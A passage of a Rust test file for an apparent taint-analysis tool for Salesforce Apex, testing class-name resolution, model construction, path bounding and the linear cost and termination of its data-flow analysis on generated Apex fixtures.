            .map_or(&[][..], |&n| &index.postings[n]);
        assert_eq!(search_mentions(&project, &model, name), indexed, "{name}");
        found += usize::from(!indexed.is_empty());
    }
    // The edge cases: `token` is mentioned by the getter (`9token`), `b` (`ToKeN`) and `c`
    // (inside a literal), not by `a` or the test; `tok` by `c` only.
    let edge_file = project.files.len() - 1;
    let edge = |n: &str| -> Vec<String> {
        search_mentions(&project, &model, n)
            .iter()
            .filter(|&&m| model.methods[m].file == edge_file)
            .map(|&m| model.methods[m].name.to_string())
            .collect()
    };
    assert_eq!(edge("token"), ["get token", "b", "c"]);
    assert_eq!(edge("tok"), ["c"]);
    assert_eq!(edge("_token"), ["a"]);
    assert!(edge("en").is_empty());
    assert!(found > 30, "{found} of {} names mentioned", names.len());
}

/// Resolving a simple name from a scope finds what looking up its qualified names in every
/// enclosing scope found, for every class name seen from every class, duplicates included.
#[test]
fn simple_names_resolve_as_their_qualified_names_did() {
    let mut files = corpus_and_generated_apex(30);
    for (i, text) in [
        "public class Dup { public class Inner {} public class Deep { public class Inner {} void m() {} } }",
        "public class Dup { public class Inner {} }",
        "public class Other { public class Inner {} public class Dup {} }",
    ]
    .iter()
    .enumerate()
    {
        files.push((format!("force-app/main/default/classes/Z{i}.cls"), text.to_string()));
    }
    let refs: Vec<(&str, &str)> = files.iter().map(|(p, t)| (p.as_str(), t.as_str())).collect();
    let project = crate::testing::in_memory(&refs);
    let model = Model::build(&project);
    let qualified = |name: &str, from: Option<usize>| -> Option<usize> {
        let lc = name.to_ascii_lowercase();
        let mut scope = from;
        while let Some(c) = scope {
            let key = format!("{}.{lc}", model.classes[c].key);
            if let Some(&i) = model.classes.iter().position(|x| x.key == key).as_ref() {
                return Some(i);
            }
            scope = model.classes[c].outer;
        }
        let ids: Vec<usize> = (0..model.classes.len())
            .filter(|&i| {
                model.classes[i].name.eq_ignore_ascii_case(&lc)
                    || model.classes[i].outer.is_some() && model.classes[i].key == lc
            })
            .collect();
        ids.iter()
            .copied()
            .find(|&i| model.classes[i].outer.is_none())
            .or_else(|| (ids.len() == 1).then(|| ids[0]))
    };
    let mut names: Vec<String> = model.classes.iter().map(|c| c.name.to_uppercase()).collect();
    names.extend(["Nothing", "INNER", "deep"].map(String::from));
    let mut inner = 0;
    for name in &names {
        for from in std::iter::once(None).chain((0..model.classes.len()).map(Some)) {
            let got = model.resolve_class(name, from);
            assert_eq!(got, qualified(name, from), "{name} from {from:?}");
            inner += usize::from(got.is_some_and(|g| model.classes[g].outer.is_some()));
        }
    }
    assert!(inner > 10, "{inner} inner classes resolved");
}

/// Nodes in `file`'s kept Apex tree.
fn tree_len(project: &crate::workspace::project::Project, file: usize) -> usize {
    match &project.files[file].parsed {
        crate::workspace::project::Parsed::Apex(t) => t.nodes().count(),
        _ => 0,
    }
}

/// The model joined from the declarations the per-file pass read, over the outlined trees it
/// keeps, is the one read afterwards from trees kept as they were, id for id and node for node.
#[test]
fn a_model_joined_from_the_per_file_pass_is_the_one_built_after_it() {
    let mut files = corpus_and_generated_apex(120);
    // Last, so that every id in it moves: inner classes, properties, initializers.
    files.push((
        "force-app/main/default/classes/Zz.cls".into(),
        "public class Zz {\n  static String base = 'x';\n  public class Inner {\n    public String p { get { return base; } }\n  }\n  public Integer q { get { return 1; } set; }\n  static { base = 'y'; }\n}".into(),
    ));
    let refs: Vec<(&str, &str)> = files.iter().map(|(p, t)| (p.as_str(), t.as_str())).collect();
    let parsed = crate::engine::parse_for_scan(
        crate::workspace::project::in_memory_unparsed(&refs),
        &|_, _, _| (),
        SPEC.source_hints,
        true,
        None,
    );
    let project = &parsed.project;
    // The nodes the data flow reads through a body or an initializer (named ones, and those
    // that fill a field), and the kind of declaration they sit in (an elided body is parsed
    // again by it).
    let subtree = |n: crate::syntax::flat::Node<'_>| {
        let mut v = vec![(n.parent().map(|p| p.kind()).unwrap_or_default(), 0..0)];
        n.preorder(|d| {
            if d == n
                || d.is_named()
                || d.parent()
                    .is_some_and(|p| crate::syntax::tree::FIELDS.iter().any(|f| p.field(f) == Some(d)))
            {
                v.push((d.kind(), d.byte_range()));
            }
            true
        });
        v
    };
    let shape = |m: &Model<'_>| {
        let classes: Vec<String> = m
            .classes
            .iter()
            .map(|c| {
                let mut fields: Vec<_> = c.fields.iter().collect();
                fields.sort();
                format!(
                    "{} {} {:?} {:?} {:?} {fields:?}",
                    c.file, c.key, c.outer, c.annotations, c.methods
                )
            })
            .collect();
        let methods: Vec<String> = (0..m.methods.len())
            .map(|i| {
                let x = &m.methods[i];
                let params: Vec<_> = x.params.iter().map(|p| (&p.name, &p.ty, &p.span)).collect();
                let body = m.body(i).map(|b| (b.kind(), b.byte_range(), b.is_elided(), subtree(b)));
                format!(
                    "{} {} {:?} {} {} {params:?} {body:?} {:?} {} {} {}",
                    x.class,
                    x.file,
                    x.kind,
                    x.name,
                    x.display(&project.files[x.file].text),
                    x.annotations,
                    x.is_static,
                    x.webservice,
                    x.is_test
                )
            })
            .collect();
        let fields: Vec<String> = m
            .fields
            .iter()
            .map(|f| {
                let init = f
                    .init
                    .and_then(|n| m.node(m.classes[f.class].file, n))
                    .map(|n| (n.byte_range(), subtree(n)));
                format!("{} {} {} {:?} {init:?}", f.class, f.name, f.display, f.ty)
            })
            .collect();
        (classes, methods, fields)
    };
    let model = Model::join(project, parsed.decls);
    // Ids moved to the project's still point where they did in their file.
    let mut getters = 0;
    for (c, class) in model.classes.iter().enumerate() {
        assert!(
            class.methods.iter().all(|&m| model.methods[m].class == c),
            "{}",
            class.key
        );
        assert!(
            class.fields.values().all(|&f| model.fields[f].class == c),
            "{}",
            class.key
        );
        assert!(
            class
                .outer
                .is_none_or(|o| model.classes[o].file == class.file && class.key.starts_with(&model.classes[o].key))
        );
        assert_eq!(model.resolve_class(&class.key, None), Some(c), "{}", class.key);
    }
    for m in &model.methods {
        assert_eq!(model.classes[m.class].file, m.file);
        if let super::model::MethodKind::Getter(f) = m.kind {
            assert_eq!(model.fields[f].class, m.class);
            assert_eq!(format!("get {}", model.fields[f].name), *m.name);
            getters += 1;
        }
    }
    assert!(getters > 0 && model.classes.iter().any(|c| c.outer.is_some()));
    let joined = shape(&model);
    // The scan outlined its trees to what the declarations point to: the model read from
    // trees kept as they were, after the pass, is the same.
    let unoutlined = crate::engine::parse_for_scan(
        crate::workspace::project::in_memory_unparsed(&refs),
        &|_, _, _| (),
        SPEC.source_hints,
        false,
        None,
    );
    assert!(
        (0..project.files.len()).any(|f| tree_len(project, f) < tree_len(&unoutlined.project, f)),
        "some tree was outlined"
    );
    let built = shape(&Model::build(&unoutlined.project));
    assert!(joined.1.len() > 300, "{}", joined.1.len());
    assert_eq!(joined, built);
}

/// A method's name as written comes from its file's text: methods, constructors, getters and
/// triggers by their name, initializers as `<init>`.
#[test]
fn methods_display_their_names_as_written() {
    let project = crate::testing::in_memory(&[
        (
            "force-app/main/default/classes/Acme.cls",
            "public class Acme {\n  static String base = 'x';\n  public Acme() {}\n  public String Token { get { return base; } }\n  public static void RunNow(Integer n) {}\n}",
        ),
        (
            "force-app/main/default/triggers/AcmeTrigger.trigger",
            "trigger AcmeTrigger on Account (before insert) { }",
        ),
    ]);
    let model = Model::build(&project);
    let shown: Vec<(&str, &str)> = model
        .methods
        .iter()
        .map(|m| (&*m.name, m.display(&project.files[m.file].text)))
        .collect();
    assert_eq!(
        shown,
        [
            ("<init>", "<init>"),
            ("acme", "Acme"),
            ("get token", "Token"),
            ("runnow", "RunNow"),
            ("<trigger>", "AcmeTrigger"),
        ]
    );
}

fn hop(i: usize) -> Hop {
    Hop {
        file: 0,
        span: i..i + 1,
        note: format!("hop {i}"),
    }
}

/// Paths joined across a chain of calls stay bounded, and keep the source's first hops and
/// the sink's last ones in order; short ones are joined whole.
#[test]
fn joined_paths_are_bounded_and_keep_both_ends() {
    let short_a = extend(&extend(&None, hop(0)), hop(1));
    let short_b = extend(&None, hop(2));
    let spans: Vec<usize> = hops(&concat(&short_a, &short_b)).iter().map(|h| h.span.start).collect();
    assert_eq!(spans, [0, 1, 2]);
    // A chain of 3,000 calls, each joining its caller's path with a callee's of 40 hops.
    let callee = (1_000_000..1_000_040).fold(None, |p, i| extend(&p, hop(i)));
    let mut path = extend(&None, hop(0));
    for _ in 0..3_000 {
        path = concat(&path, &callee);
        assert!(path_len(&path) <= MAX_JOINED_HOPS, "{}", path_len(&path));
    }
    let all = hops(&path);
    assert_eq!(all.len(), MAX_JOINED_HOPS as usize);
    assert_eq!(all[0].span.start, 0, "the source's hop stays first");
    let last: Vec<usize> = all[all.len() - 40..].iter().map(|h| h.span.start).collect();
    assert_eq!(
        last,
        (1_000_000..1_000_040).collect::<Vec<_>>(),
        "the sink's side stays whole"
    );
}

/// A chain of calls in one class, analyzed one method per round, costs linear time: each
/// round passed over every method of the model, and each call scanned every method of its
/// class for the name (4,000 methods took 0.78 s in a release build, 8,000 about 3 s).
#[test]
fn a_long_call_chain_in_one_class_is_linear() {
    const N: usize = 6_000;
    let mut body: String = (0..N)
        .map(|i| format!("  static String m{i}(String s) {{ return m{}(s); }}\n", i + 1))
        .collect();
    body.push_str(&format!(
        "  static String m{N}(String s) {{ Out.send(s); return s; }}\n"
    ));
    body.push_str("  static void start() { m0(Secret.get()); }\n");
    let text = format!("public class K {{\n{body}}}\n");
    let project = crate::testing::in_memory(&[("force-app/main/default/classes/K.cls", &text)]);
    let model = Model::build(&project);
    let analysis = analyze(&project, &model, &SPEC);
    assert_eq!(analysis.flows.len(), 1);
    // Every method of the chain, each a few times (again when a callee's summary changes),
    // however long the chain.
    assert_eq!(analysis.analyzed, N + 2);
    assert!(analysis.runs <= 3 * (N + 2), "{} runs", analysis.runs);
}

/// Termination (see `solve.rs`): in a ring of methods that call each other and pass the taint
/// through fields and back again, summaries change round after round, and still no method runs
/// more than MAX_ROUNDS times plus once after being put off.
#[test]
fn a_ring_of_calls_through_fields_stops_within_the_bound() {
    const N: usize = 40;
    let mut body = String::from("  static String f0;\n");
    for i in 0..N {
        let next = (i + 1) % N;
        body.push_str(&format!(
            "  static String f{next};\n  static String m{i}(String s) {{ f{next} = s + f{i}; return m{next}(f{next}); }}\n"
        ));
    }
    body.push_str("  static void start() { m0(Secret.get()); Out.send(f7); }\n");
    let text = format!("public class Ring {{\n{body}}}\n");
    let project = crate::testing::in_memory(&[("force-app/main/default/classes/Ring.cls", &text)]);
    let model = Model::build(&project);
    for spec in [&SPEC, &SPEC_ALL] {
        let analysis = analyze(&project, &model, spec);
        assert_eq!(analysis.flows.len(), 1, "the source reaches the sink through the ring");
        assert!(analysis.analyzed > N, "{} analyzed", analysis.analyzed);
        assert!(
            analysis.runs <= (MAX_ROUNDS + 1) * analysis.analyzed,
            "{} runs for {} methods",
            analysis.runs,
            analysis.analyzed
        );
    }
}
